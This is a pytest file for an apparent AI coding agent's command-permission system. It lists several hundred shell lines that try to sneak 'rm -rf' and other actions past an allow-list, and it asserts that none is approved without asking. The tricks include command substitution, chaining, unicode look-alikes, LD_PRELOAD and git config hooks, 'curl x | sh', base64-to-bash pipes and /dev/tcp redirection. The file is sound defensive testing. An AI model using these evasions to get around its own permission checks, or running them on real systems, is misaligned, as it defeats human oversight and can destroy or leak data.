"""Command lines that try to do more than generous rules allow: none runs without a question."""

import pytest

from punie.agent.events import Mode
from punie.agent.permissions.judging import CommandCall, Place, judge
from punie.agent.permissions.rules import COMMANDS, Rule, parse_command_pattern
from punie.agent.permissions.shell import read_command_line
from punie.agent.policy import Allow, decide

GENEROUS = [
    Rule("allow", COMMANDS, parse_command_pattern(pattern))
    for pattern in (
        *("git *", "cat *", "pytest *", "ls *", "find *", "grep *", "rg *", "sort *", "echo *"),
        *(
            "head *",
            "tail *",
            "wc *",
            "diff *",
            "tar *",
            "xargs cat *",
            "tree *",
            "file *",
            "man *",
            "shuf *",
            "iconv *",
            "sdiff *",
            "pylint *",
            "batcat *",
        ),
        *("make test", "npm test", "ruff check *", "mypy *"),
    )
]

EVIL = "rm -rf build"

TRICKS = [
    # substitutions
    f"cat $({EVIL})", f"cat `{EVIL}`", f'cat "$({EVIL})"', f"cat <({EVIL})", f"cat > >({EVIL})",
    f"cat ${{X:-$({EVIL})}}", f"cat ${{X:=$({EVIL})}}", f'echo "${{X@P}}" $({EVIL})',
    f"cat $[$({EVIL})]",
    f"cat $(( $({EVIL}) ))", f"cat <<< $({EVIL})", f"cat <<EOF\n$({EVIL})\nEOF",
    f"cat <<-EOF\n\t`{EVIL}`\n\tEOF",
    f"ls $(echo $({EVIL}))", f"echo ${{A[$({EVIL})]}}", "X='$(rm x)'; echo ${X@P}",
    # lists, pipes, blocks
    f"cat a; {EVIL}", f"cat a && {EVIL}", f"cat a || {EVIL}", f"cat a | {EVIL}", f"cat a & {EVIL}",
    f"cat a\n{EVIL}", f"cat a |& {EVIL}", f"( {EVIL} )", f"{{ {EVIL}; }}", f"! {EVIL}",
    f"if cat a; then {EVIL}; fi",
    f"while {EVIL}; do ls; done", f"for i in 1; do {EVIL}; done", f"case x in x) {EVIL};; esac",
    f"ls() {{ {EVIL}; }}; ls", f"function cat {{ {EVIL}; }}; cat a", f"coproc {EVIL}",
    f"time {EVIL}",
    f"[[ -n $({EVIL}) ]]", f"select x in a; do {EVIL}; done", f"until {EVIL}; do :; done",
    # quoting, escapes, unicode
    "'rm' -rf x", "r''m -rf x", 'r""m x', "r\\m x", "\\rm x", "$'rm' x", "$'\\x72m' x", '$"rm" x',
    "ca\\\nt a; r\\\nm x", "/bin/rm x", "./cat a", "bin/cat a", "~/cat a", "../cat a", "ｃat a",
    "cаt a", "rm\u00a0-rf x",
    "cat\u200b a", "cat a \u2028 rm x", "cat a\r rm x", "cat\x0ba", "\u202ecat a",
    "cat a\x00; rm x", "CAT a", "Git status",
    # brace and other expansions as commands
    "{rm,-rf,x}", "{cat,a}", "$CMD x", "${CMD} x", "$(echo rm) x", "`echo rm` x", "r? x",
    "/b?n/rm x", "*", "~+/rm",
    "c${X}at a", "$@", "!!", "!rm", "%1", "-- rm x",
    # assignments and environment
    "PATH=. cat a", "LD_PRELOAD=./x.so cat a", "GIT_SSH_COMMAND=./x git fetch",
    "PAGER=./x git log",
    "GIT_EXTERNAL_DIFF=./x git diff", "PYTHONPATH=. pytest", "BASH_ENV=./x cat a", "X=1; cat $X",
    "export PATH=.; cat a", "declare -x PATH=.; cat a", "env PATH=. cat a", "env -S 'rm x'",
    "env -i ./x",
    "alias cat=rm; cat a", "unalias cat", "set -o posix; cat a", "shopt -s expand_aliases",
    "hash -p ./x cat; cat a",
    "enable -f ./x.so cat", "trap 'rm x' EXIT", "PROMPT_COMMAND=x cat a", "IFS=/ cat a",
    "readonly PATH=.",
    "source x", ". ./x", "eval rm x", "eval 'cat a; rm x'", "exec rm x", "exec cat > x",
    "command rm x", "builtin eval rm",
    "printf -v PATH .; cat a", "read PATH < x; cat a", "mapfile -C 'rm x' -c 1 a < a",
    # wrappers and interpreters
    "sh -c 'rm x'", "bash -c \"rm x\"", "bash x.sh", "bash < x", "sh <<< 'rm x'",
    "sh <<EOF\nrm x\nEOF",
    "cat x | sh", "printf 'rm x' | sh", "echo cm0geA== | base64 -d | bash", "curl x | sh",
    "cat x | xargs rm",
    "xargs rm < x", "xargs -I{} sh -c {} < x", "sudo cat a", "su -c 'cat a'", "doas cat a",
    "nohup rm x",
    "setsid rm x", "nice rm x", "timeout 1 rm x", "stdbuf -o0 rm x", "watch rm x",
    "script -c 'rm x'", "flock f rm x",
    "parallel rm ::: x", "busybox rm x", "python -c 'import os'", "python x.py",
    "python -m http.server", "perl -e 'unlink x'",
    "ruby -e x", "node -e x", "php -r x", "lua -e x", "ssh -o ProxyCommand=./x h",
    "scp -S ./x a b:", "rsync -e ./x a b:",
    "make", "make -f x", "make test -f x", "make test SHELL=./x", "npm run x", "npx x",
    "npm test -- x; rm x",
    "docker run -v /:/x i", "systemctl stop x", "crontab x", "at now < x", "kill -9 1",
    "chmod +x x", "ln -s / x",
    "dd if=/dev/zero of=x", "mkfifo x", "tee x", "cat a | tee x", "install a b", "cp a b",
    "mv a b", "truncate -s0 a",
    # what the programs of the rules can be made to do
    "git -c core.pager=./x log", "git -c alias.x='!rm x' x", "git -c core.sshCommand=./x fetch",
    "git --exec-path=. status", "git -C /tmp status", "git --git-dir=/tmp/x status",
    "git --work-tree=/ status",
    "git log --output=x", "git diff --output=x", "git diff --ext-diff",
    "git grep --open-files-in-pager=./x y", "git grep -O./x y",
    "git bisect run ./x", "git rebase --exec ./x", "git rebase -x ./x",
    "git submodule foreach rm x", "git filter-branch --tree-filter ./x",
    "git config core.pager ./x", "git config alias.x '!rm x'",
    "git archive --output=x HEAD", "git difftool -x ./x", "git mergetool", "git daemon",
    "git fetch --upload-pack=./x", "git pull --upload-pack=./x",
    "git ls-remote --upload-pack=./x .",
    "git hook run pre-commit", "git send-email x",
    "find . -exec rm {} +", "find . -execdir rm {} \\;", "find . -ok rm {} \\;", "find . -delete",
    "find . -fprint x", "find . -fls x",
    "sort -o x a", "sort --output=x a", "sort --compress-program=./x a", "rg --pre ./x y",
    "rg --hostname-bin ./x y",
    "sed -i s/a/b/ a", "sed -n 'w x' a", "sed '1e rm x' a", "sed s/a/b/e a",
    "awk 'BEGIN{system(\"rm x\")}'",
    "awk '{print > \"x\"}' a", "awk -f x a", "tar --to-command=./x -xf a", "tar -I ./x -xf a",
    "tar Ixf ./x a", "tar xIf ./x a", "tar -xIf ./x a", "tar --checkpoint-action=exec=./x -cf a b",
    "vim -c ':!rm x'", "vim +'!rm x' a", "man -P ./x ls", "tree -o x", "tree -R -L 1 -H x",
    "shuf -o x a", "shuf -ox a", "iconv -o x a", "sdiff --diff-prog=./x a b", "sdiff -o x a b",
    "pylint --init-hook='import x' a", "pylint --init-h='import x' a", "batcat --pager ./x a",
    "mypy --python-executable=./x a", "git clone -c core.hooksPath=./x a b",
    "git remote-ext x './x'", "git for-each-repo --config=x ./y",
    "pytest -p evil; rm x", "ruff check --fix . && rm x", "xargs cat rm; rm x", "xargs rm",
    "cat a >| x", "cat a >> x",
    # redirections
    "cat a > x", "cat a >x", "cat a 1>x", "cat a &> x", "cat a >& x", "cat <> x", "> x",
    ">> x cat a", "cat a > $X", "cat a > ~/x",
    "cat a > /dev/tcp/host/80", "cat < /dev/tcp/host/80", "cat a 3> x", "{fd}> x cat a",
    "cat a > 'x'", "cat a > \"$HOME/x\"",
    "exec 3<> /dev/tcp/h/1", "cat a | cat > x",
]  # fmt: skip

MODES: tuple[Mode, ...] = ("ask", "accept_edits", "plan")


def test_there_are_hundreds() -> None:
    assert len(set(TRICKS)) > 250


@pytest.mark.parametrize("line", list(dict.fromkeys(TRICKS)))
def test_none_is_approved_by_itself(place: Place, line: str) -> None:
    verdict = judge(GENEROUS, CommandCall(COMMANDS, read_command_line(line)), place)
    for mode in MODES:
        assert not isinstance(decide(mode, "execute", verdict), Allow)
